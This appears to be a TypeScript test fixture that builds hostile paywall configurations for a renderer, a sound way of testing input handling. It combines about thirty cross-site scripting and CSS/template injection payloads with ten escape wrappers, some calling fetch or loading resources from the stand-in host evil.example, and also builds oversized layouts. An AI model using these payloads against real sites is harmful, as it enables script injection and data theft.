import { button, plan, stack, text } from '../paywall';

/** What every attack tries: to leave a mark, to open a dialog, to tell another host. */
const CODE = 'ran=1,alert(1),fetch(`//evil.example/`)';

/** Ways in that are known from pages which put texts into markup, addresses or style sheets. */
const SHAPES: readonly string[] = [
  `<script>${CODE}</script>`,
  `<img src=x onerror="${CODE}">`,
  `<svg onload="${CODE}">`,
  `<svg><script>${CODE}</script></svg>`,
  `<svg><animate onbegin="${CODE}" attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.${CODE}</script>">`,
  `<iframe src="javascript:parent.${CODE}">`,
  `<details open ontoggle="${CODE}">`,
  `<video><source onerror="${CODE}"></video>`,
  `<input autofocus onfocus="${CODE}">`,
  `<a href="javascript:${CODE}">x</a>`,
  `<form action="javascript:${CODE}"><button autofocus>`,
  `<object data="javascript:${CODE}">`,
  `<embed src="data:text/html,<script>${CODE}</script>">`,
  '<link rel=stylesheet href="//evil.example/a.css">',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<base href="//evil.example/">',
  '<style>aside{display:none!important}</style>',
  '<style>@import "//evil.example/b.css"</style>',
  '<div style="position:fixed;inset:0;background:red">',
  `<math><mtext><style><img src=x onerror="${CODE}"></style>`,
  `<noscript><p title="</noscript><img src=x onerror='${CODE}'>">`,
  `javascript:${CODE}`,
  `vbscript:${CODE}`,
  `data:text/html,<script>${CODE}</script>`,
  'red;background:url(//evil.example/c)',
  `url("javascript:${CODE}")`,
  'image-set("//evil.example/d" 1x)',
  '#fff}aside{display:none!important}',
  `{{constructor.constructor('${CODE}')()}}`,
];

const entities = (shape: string): string => shape.replace(/[<>":{]/g, (sign) => `&#${sign.charCodeAt(0)};`);

/** What stands around an attack, to get out of where the text is put. */
const SURROUNDINGS: readonly ((shape: string) => string)[] = [
  (shape) => shape,
  (shape) => `">${shape}`,
  (shape) => `'>${shape}`,
  (shape) => `");}${shape}`,
  (shape) => `</style></title></textarea>${shape}`,
  (shape) => `**${shape}**`,
  (shape) => `[${shape}](https://fine.example/)`,
  (shape) => `[here](${shape})`,
  entities,
  (shape) => `\u202e\t${shape.slice(0, 4)}\n\u0000${shape.slice(4)}`,
];

/** Three hundred. */
export const ATTACKS: readonly string[] = SURROUNDINGS.flatMap((around) => SHAPES.map(around));

/**
 * Components with the attack in each of their slots. `lid` is the id of the attack as a text. Pictures may come from anywhere:
 * some have an address below `pictures`.
 */
const everySlot = (attack: string, lid: string, pictures: string): readonly object[] => {
  const hex = { type: 'hex', value: attack };
  const colour = { light: hex, dark: { type: 'alias', value: attack } };
  const points = [
    { color: attack, percent: attack },
    { color: '#ffffff', percent: 9 },
  ];
  const file = { original: attack, webp: `${pictures}/${attack}`, webp_low_res: attack, width: attack };
  const reached = { original: `${pictures}/${attack}`, webp_low_res: `${pictures}/${attack}` };
  const sides = { top: attack, bottom: attack, leading: attack, trailing: attack };
  const box = {
    id: attack,
    name: attack,
    background_color: { light: { type: 'linear', degrees: attack, points } },
    border: { width: attack, color: colour },
    shadow: { x: attack, y: attack, radius: attack, color: colour },
    shape: { type: attack, corners: { top_leading: attack } },
    size: { width: { type: attack, value: attack }, height: { type: 'fixed', value: attack } },
    spacing: attack,
    margin: sides,
    padding: sides,
  };
  const label = text(lid, {
    id: attack,
    name: attack,
    color: colour,
    background_color: colour,
    font_name: attack,
    font_size: attack,
    font_weight: attack,
    horizontal_alignment: attack,
    overrides: { states: { selected: { text_lid: lid, color: colour } } },
  });
  const link = { type: 'navigate_to', destination: 'url', url: { url_lid: lid, method: attack } };
  const image = { type: 'image', id: attack, name: attack, alt_lid: lid, max_height: attack };
  const icon = { name: attack, icon_name: attack, base_url: attack, formats: { svg: attack }, color: colour };
  return [
    label,
    text(attack),
    stack([label], { ...box, dimension: { type: attack, alignment: attack, distribution: attack } }),
    stack([], { background: { type: 'image', value: { light: file }, color_overlay: colour } }),
    stack([label], {
      badge: { style: attack, alignment: attack, text_lid: lid, color: colour, font_name: attack },
    }),
    { ...image, source: { light: file, dark: file }, mask_shape: { type: attack }, gradient_colors: colour },
    { ...image, source: { light: reached }, override_source_lid: lid, fit_mode: attack },
    button(link, lid),
    { type: 'button', id: attack, action: { type: attack, package_id: attack }, stack: stack([]) },
    plan(attack, lid),
    plan('$rc_monthly', lid, false, box),
    { type: 'icon', ...icon, id: attack },
    { type: attack, id: attack, fallback: { type: attack } },
    { type: 'timeline', items: [{ title: label, description: label, icon, connector: { color: colour } }] },
    { type: 'countdown', style: { type: attack, date: attack }, countdown_stack: stack([label]) },
  ];
};

/** A paywall of attacks, which also names its languages, colours and fonts after one of them. */
export const hostilePaywall = (attacks: readonly string[], pictures: string): object => {
  const [first = ''] = attacks;
  const words = Object.fromEntries(
    attacks.flatMap((attack, index) => [
      [attack, attack],
      [`t${index}`, attack],
    ]),
  );
  const hex = { light: { type: 'hex', value: first } };
  return {
    components_config: {
      asset_base_url: first,
      colors: { [first]: hex },
      fonts: { [first]: { web: { value: first } } },
      base: {
        default_font_name: first,
        background: { type: 'color', value: hex },
        stack: stack([
          text('t0'),
          ...attacks.flatMap((attack, index) => everySlot(attack, `t${index}`, pictures)),
        ]),
      },
    },
    components_localizations: { [first]: words },
    default_locale: first,
  };
};

/** Boxes of sizes that no page has room for, and of less than none. */
export const oversizedPaywall = (): object => {
  const lengths = [-100_000, -999, 100_000, 1e308, Number.MAX_SAFE_INTEGER];
  const sides = (length: number): object => ({
    top: length,
    bottom: length,
    leading: length,
    trailing: length,
  });
  const fixed = (value: number): object => ({
    width: { type: 'fixed', value },
    height: { type: 'fixed', value: Math.min(value, 2_000) },
  });
  const colour = { light: { type: 'hex', value: '#ff0000' } };
  const wild = (length: number, type: string): object =>
    stack([text('long')], {
      dimension: { type },
      spacing: length,
      margin: sides(length < 0 ? length : 0),
      padding: { leading: length, trailing: length },
      size: fixed(length),
      border: { width: Math.min(length, 500), color: colour },
      shadow: { x: length, y: 0, radius: length, color: colour },
      background_color: colour,
      badge: { style: 'overlay', alignment: 'top', text_lid: 'long', margin: sides(length) },
    });
  return {
    components_config: {
      base: {
        stack: stack(
          lengths.flatMap((length) => ['vertical', 'horizontal', 'zlayer'].map((type) => wild(length, type))),
        ),
      },
    },
    components_localizations: { en_US: { long: 'W'.repeat(5_000) } },
    default_locale: 'en_US',
  };
};
